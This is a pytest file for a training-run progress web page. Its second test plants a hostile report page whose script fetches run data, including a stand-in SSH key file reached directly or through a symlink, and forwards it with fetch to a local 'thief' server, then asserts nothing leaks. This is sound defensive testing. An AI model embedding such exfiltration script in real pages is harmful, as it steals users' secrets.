"""The page about a run in a real browser, while the run goes on."""

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from potstill.progress import published, track
from potstill.rundir import RunDirectory
from potstill.watch import server_of
from tests.fixtures.browser import chromium

STEALS = """<!doctype html><title>report</title><p>a report</p><script>
fetch("/data" + location.search).then((answer) => answer.text()).then((text) => {
  document.title = text;
  return fetch("http://127.0.0.1:PORT/" + text, { mode: "no-cors" });
}).catch((error) => { document.title = "refused"; });
</script>"""


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_it_follows_the_run(tmp_path, width, scheme):
    run_directory = RunDirectory(tmp_path)
    row = {"stage": "student", "time": 1.0, "loss": 2.0}
    lines = [json.dumps(row | {"step": step}) + "\n" for step in (1, 2, 3)]
    run_directory.metrics_path.write_text("".join(lines[:1]))
    with server_of(run_directory, 0, "secret") as server, chromium() as browser:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)
        wrong: list[str] = []
        page.on("console", lambda message: wrong.append(message.text))
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.goto(f"http://127.0.0.1:{server.server_port}/?token=secret")
        assert page.get_by_text("No process is working on this run").is_visible()
        with published(run_directory.step_path), track("training", 8, "steps") as progress:
            progress.advance(2)
            run_directory.metrics_path.write_text("".join(lines))
            page.get_by_text("training: 0 of 8 steps").wait_for(timeout=15_000)
            page.get_by_role("img", name="loss: from 2 to 2 at step 3").wait_for(timeout=15_000)
            assert page.get_by_role("progressbar").get_attribute("value") == "0.0"
        page.get_by_text("No process is working on this run").wait_for(timeout=15_000)
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert not wrong
        server.shutdown()
        server.server_close()
        page.get_by_text("does not answer").wait_for(timeout=15_000)


@pytest.mark.parametrize("is_link", [True, False], ids=["a link", "a page of the run"])
def test_a_page_of_a_strangers_run_reads_and_sends_nothing(tmp_path, is_link):
    taken: list[str] = []

    class Thief(BaseHTTPRequestHandler):
        def do_GET(self):
            taken.append(self.path)
            self.send_response(204)
            self.end_headers()

    run_directory = RunDirectory(tmp_path / "run")
    report_path = run_directory.stage_dir("comparison") / "report.html"
    data_path = run_directory.stage_dir("conversations") / "summary.html"
    for path in (report_path, data_path):
        path.parent.mkdir(parents=True)
    secret_path = tmp_path / "id_ed25519"
    (secret_path if is_link else data_path).write_text("secret")
    if is_link:
        data_path.symlink_to(secret_path)
    with (
        HTTPServer(("127.0.0.1", 0), Thief) as thief,
        server_of(run_directory, 0, "token") as server,
        chromium() as browser,
    ):
        for one in (thief, server):
            threading.Thread(target=one.serve_forever, args=(0.02,), daemon=True).start()
        report_path.write_text(STEALS.replace("PORT", str(thief.server_port)))
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{server.server_port}/report?token=token")
        page.wait_for_load_state("networkidle")
        assert page.get_by_text("a report").is_visible()
        assert taken == []
        assert page.title() == "report"
        thief.shutdown()
        server.shutdown()
